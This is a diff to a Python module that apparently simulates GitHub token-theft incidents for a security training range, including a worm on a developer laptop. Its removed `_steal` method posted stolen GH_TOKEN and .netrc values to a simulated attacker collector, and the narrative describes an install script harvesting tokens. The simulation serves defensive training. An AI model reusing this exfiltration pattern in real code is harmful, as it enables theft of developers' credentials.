@@ -64,13 +64,6 @@ class AccountTheft:
         self._thief.add_key()
         return {"story": ["Two hours later the token, which still works, adds a second deploy key that may push."]}
 
-    def _steal(self, whence: str, **values: str) -> None:
-        """What is posted to the attacker's host lies there for everybody to read."""
-        told: dict[str, Any] = {"from": whence, "env": values}
-        with requests.Session() as session:
-            session.trust_env = False
-            session.post(f"{self._range.collector.url}/collect", json=told, timeout=20)
-
     def _long_ago(self) -> None:
         """The company's own pushes are of last quarter: nobody can say since when the token is out, and what is
         younger than 90 days is suspected then.
@@ -234,7 +227,7 @@ class WormOnLaptop(AccountTheft):
         state.orgs[company.ORG].saml = True
         self._thief.token = self.laptop.token = state.add_token("mara", scopes=("repo", "workflow"))
         self._other = state.add_token("mara", scopes=("repo",))
-        self._steal("laptop of mara", GH_TOKEN=self._thief.token, NETRC_PASSWORD=self._other)
+        self._range.collector.take("laptop of mara", GH_TOKEN=self._thief.token, NETRC_PASSWORD=self._other)
         said = (
             "Mara has tried a package on her laptop. Its install script took the token of GitHub's command line, and "
             "another one out of a file that she had forgotten, and left a process behind: gh-token-monitor. It asks "
